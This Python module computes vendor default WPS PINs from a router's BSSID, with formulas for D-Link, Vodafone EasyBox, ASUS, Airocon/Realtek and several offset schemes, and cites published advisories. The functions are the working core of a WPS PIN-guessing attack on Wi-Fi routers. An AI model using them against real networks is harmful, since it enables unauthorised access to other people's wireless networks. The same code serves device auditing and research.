"""
Vendor PIN Formulas
====================

Pure functions mapping a canonical 12-hex-digit BSSID to a base PIN.
Each one reproduces a default-PIN scheme observed in vendor firmware.
None of them apply the WPS checksum; :class:`PinGenerator` does that.

References:
    - Heffner, C. (2014). Reversing D-Link's WPS Pin Algorithm.
      http://www.devttys0.com/2014/10/reversing-d-links-wps-pin-algorithm/
    - SEC Consult. (2013). Vodafone EasyBox Default WPS PIN
      Vulnerability. Advisory 20130805-0.
    - Antichat forum. ASUS and Airocon Realtek default PIN threads.
      https://forum.antichat.ru/posts/3978417/
"""

from __future__ import annotations

from fractions import Fraction

from pinpoint.core.codec import bssid_octets, bssid_to_int, low24

PIN_MODULUS = 100_000_000
BASE_MODULUS = 10_000_000


# ---------------------------------------------------------------------------
# Fixed-offset schemes: the PIN is a tail of the BSSID read as an integer
# ---------------------------------------------------------------------------


def fixed_offset_24(bssid: str) -> int:
    return low24(bssid)


def fixed_offset_28(bssid: str) -> int:
    return int(bssid[5:12], 16) % PIN_MODULUS


def fixed_offset_32(bssid: str) -> int:
    return int(bssid[4:12], 16) % PIN_MODULUS


# ---------------------------------------------------------------------------
# D-Link
# ---------------------------------------------------------------------------


def _dlink_mix(value: int, nibble: str) -> int:
    value ^= int(nibble * 5, 16) * 16 + 5
    value ^= 0xFF00
    value %= BASE_MODULUS
    if value < 1_000_000:
        value += (value % 9 + 1) * 1_000_000
    return value


def dlink(bssid: str) -> int:
    """D-Link DIR series: NIC part XOR a mask built from the last nibble."""
    return _dlink_mix(low24(bssid), bssid[11])


def dlink_plus_one(bssid: str) -> int:
    """D-Link variant keyed on the WAN MAC (LAN MAC + 1)."""
    value = low24(bssid) + 1
    return _dlink_mix(value, format(value & 0xF, "x"))


# ---------------------------------------------------------------------------
# Vodafone EasyBox
# ---------------------------------------------------------------------------


def easybox(bssid: str) -> int:
    """Vodafone EasyBox (Arcadyan) scheme.

    The last 16 bits of the BSSID are taken once as four decimal digits
    (the serial-number part) and once as four hex nibbles.  Two keys are
    mixed from both and XOR-ed back in to produce seven hex nibbles.
    """
    tail = int(bssid[8:12], 16)
    sn = [tail // 1000 % 10, tail // 100 % 10, tail // 10 % 10, tail % 10]
    mac = [(tail >> 12) & 0xF, (tail >> 8) & 0xF, (tail >> 4) & 0xF, tail & 0xF]

    k1 = (sn[0] + sn[1] + mac[2] + mac[3]) & 0xF
    k2 = (sn[2] + sn[3] + mac[0] + mac[1]) & 0xF

    nibbles = (
        k1 ^ sn[3],
        k1 ^ sn[2],
        k2 ^ mac[1],
        k2 ^ mac[2],
        mac[2] ^ sn[3],
        mac[3] ^ sn[2],
        k1 ^ sn[1],
    )
    pin = 0
    for nibble in nibbles:
        pin = pin * 16 + nibble
    return pin


# ---------------------------------------------------------------------------
# Byte-wise decimal schemes
# ---------------------------------------------------------------------------


def asus(bssid: str) -> int:
    b = bssid_octets(bssid)
    s = b[1] + b[2] + b[3] + b[4] + b[5]
    pin = 0
    for i in range(7):
        pin = pin * 10 + (b[i % 6] + b[5]) % (10 - (i + s) % 7)
    return pin


def airocon_realtek(bssid: str) -> int:
    b = bssid_octets(bssid)
    pin = 0
    for i in range(7):
        pin = pin * 10 + (b[i % 6] + b[(i + 1) % 6]) % 10
    return pin


# ---------------------------------------------------------------------------
# Data-derived schemes
# ---------------------------------------------------------------------------


def linear(bssid: str, k: Fraction, x0: Fraction) -> int:
    """PIN as a linear function of the full 48-bit BSSID.

    ``(bssid - x0) / k`` is evaluated exactly, truncated toward zero and
    reduced into [0, 1e8).
    """
    quotient = (bssid_to_int(bssid) - x0) / k
    return int(quotient) % PIN_MODULUS


def static(bssid: str, value: int) -> int:
    return value
